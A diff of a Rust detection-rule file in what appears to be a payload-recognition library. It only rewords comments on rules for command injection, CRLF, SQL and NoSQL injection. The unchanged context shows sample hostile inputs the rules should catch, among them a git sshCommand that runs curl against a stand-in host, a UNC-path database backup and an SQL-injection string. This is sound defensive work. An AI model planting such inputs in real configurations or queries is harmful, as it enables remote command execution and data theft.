@@ -1,4 +1,4 @@
-//! Command lines that are all of a value, by their beginning or their end.
+//! Command lines that are the whole value, recognised by their beginning or their end.
 
 use super::whole::{QUERY, SHORT};
 use super::{Carriers, Category, Rule, Severity};
@@ -6,7 +6,8 @@ use crate::payload::field::Carrier;
 use crate::payload::recognise::LISTENERS;
 
 pub(super) const RULES: &[Rule] = &[
-    // Output into a file that everybody may write, and a file whose name a shell is to find.
+    // Output into a directory that everybody may write to, and a file whose name a shell is to
+    // expand.
     Rule {
         id: "rce-redirection",
         category: Category::Rce,
@@ -104,7 +105,7 @@ pub(super) const RULES: &[Rule] = &[
             "the |sh| sign",
         ],
     },
-    // A part of a variable, for the letters in it.
+    // A substring of a variable, used for its letters.
     Rule {
         id: "rce-windows-substring",
         category: Category::Rce,
@@ -187,7 +188,7 @@ pub(super) const RULES: &[Rule] = &[
             "which format? c: or d:",
         ],
     },
-    // A command that calls a host which listens for calls.
+    // A command that contacts a host which reports its visitors.
     Rule {
         id: "rce-calls-home",
         category: Category::Rce,
@@ -217,7 +218,7 @@ pub(super) const RULES: &[Rule] = &[
         hits: &["BACKUP database master to disks='\\\\x.test\\b.dat'"],
         misses: &["backup database to disk", "restore database: disk full"],
     },
-    // Two characters whose last bytes are a line break to who cuts them short.
+    // Two characters that become a line break in a program that truncates them to their last bytes.
     Rule {
         id: "crlf-truncated",
         category: Category::Crlf,
@@ -247,7 +248,7 @@ pub(super) const RULES: &[Rule] = &[
         hits: &["1;SHOW TABLES--"],
         misses: &["show tables", "shows; tables"],
     },
-    // The configuration of a repository that runs a command when it is fetched.
+    // A repository configuration that runs a command when the repository is fetched.
     Rule {
         id: "rce-repository-command",
         category: Category::Rce,
@@ -266,7 +267,8 @@ pub(super) const RULES: &[Rule] = &[
         hits: &["[core]\n sshCommand = curl http://x.test/a"],
         misses: &["sshcommand = ssh -i ~/.ssh/key", "sshcommand = curling"],
     },
-    // Code that a query on documents goes on with, and a variable that takes what the query goes on with.
+    // Code that continues a document database query, and a variable that takes the rest of the
+    // query.
     Rule {
         id: "nosqli-return",
         category: Category::Nosqli,
